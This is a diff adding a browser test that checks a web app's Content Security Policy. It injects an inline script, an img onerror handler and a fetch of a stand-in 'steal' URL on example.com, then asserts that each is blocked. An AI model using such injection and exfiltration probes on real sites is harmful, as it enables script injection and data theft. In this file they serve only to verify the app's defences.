@@ -757,3 +757,38 @@ test('the shipped sample trains, and bad training settings get a message', async
   assert.deepEqual(problems, []);
   await context.close();
 });
+
+test('nothing leaves the page: every view asks only its own origin, and the policy blocks inline scripts and outside requests', async () => {
+  const { page, context, problems, foreign } = await openPage(link({ a: CELEBRATION, b: POLITICS }));
+  for (const view of [...VIEWS, 'generate', 'learn', 'train']) {
+    await page.click(`nav.tabs button[data-view=${view}]`);
+    await page.waitForTimeout(150);
+  }
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const script = document.createElement('script');
+    script.textContent = 'window.__inlineRan = true;';
+    document.body.appendChild(script);
+    const img = document.createElement('div');
+    img.innerHTML = '<img src="data:," onerror="window.__handlerRan = true">';
+    document.body.appendChild(img);
+    let fetched = 'sent';
+    try {
+      await fetch('https://example.com/steal?text=party');
+    } catch {
+      fetched = 'blocked';
+    }
+    await new Promise((r) => setTimeout(r, 200));
+    return { inline: window.__inlineRan === true, handler: window.__handlerRan === true, fetched, violations };
+  });
+  assert.equal(outcome.inline, false, 'an inline script did not run');
+  assert.equal(outcome.handler, false, 'an inline event handler did not run');
+  assert.equal(outcome.fetched, 'blocked', 'a request to another site is refused');
+  assert.ok(outcome.violations.some((d) => d.startsWith('script-src')), `violations: ${outcome.violations}`);
+  assert.ok(outcome.violations.some((d) => d.startsWith('connect-src')), `violations: ${outcome.violations}`);
+  assert.deepEqual(foreign, [], 'no request outside the origin');
+  // The blocked attempts above log CSP errors by design; nothing else may.
+  assert.deepEqual(problems.filter((p) => !/Content Security Policy|Failed to fetch|ERR_BLOCKED/.test(p)), []);
+  await context.close();
+});
